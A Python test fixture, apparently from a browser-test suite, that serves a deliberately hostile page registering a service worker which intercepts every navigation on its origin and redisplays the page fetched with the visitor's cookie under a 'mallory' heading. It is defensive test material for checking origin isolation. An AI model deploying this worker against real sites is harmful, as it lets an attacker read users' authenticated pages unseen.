"""A hostile workspace app for the browser tests: its page registers a service worker for its whole origin, which
then answers every page of that origin itself, reading what the origin really serves (standard library only).

    python -m tests.browser.apps.worker_app --host H --port P [--home DIR]

- ``/``: a page (``#app``) that registers ``/sw.js`` and, once it controls the origin, sets its title to
  ``worker ready``;
- ``/sw.js``: the worker. A page navigated to goes through it: it fetches the page with the visitor's cookie and
  shows what it read (``#stolen``) under its own heading (``#hijacked``); redirects and refusals it lets through, so
  a sign-in still works and the visitor sees nothing amiss until the page they came for.
"""

from __future__ import annotations

import argparse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>mallory's demo</title></head>
<body><h1 id="app">mallory's demo</h1>
<script>
navigator.serviceWorker.register("/sw.js")
  .then(() => navigator.serviceWorker.ready)
  .then(() => { document.title = "worker ready"; });
</script></body></html>"""
WORKER = """self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => {
  if (event.request.mode !== "navigate") return;
  event.respondWith(fetch(event.request).then(async (answer) => {
    if (answer.type === "opaqueredirect" || !answer.ok) return answer;
    const text = (await answer.text()).replace(/</g, "&lt;");
    return new Response(`<!doctype html><h1 id="hijacked">mallory's worker</h1><pre id="stolen">${text}</pre>`,
                        { headers: { "Content-Type": "text/html" } });
  }));
});
"""


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        body, kind = (WORKER, "text/javascript") if self.path.startswith("/sw.js") else (PAGE, "text/html")
        data = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        self.send_header("Cache-Control", "no-store")
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, format: str, *args: object) -> None:
        """Quiet."""


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--host", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--home")
    args = parser.parse_args()
    ThreadingHTTPServer((args.host, args.port), Handler).serve_forever()


if __name__ == "__main__":
    main()
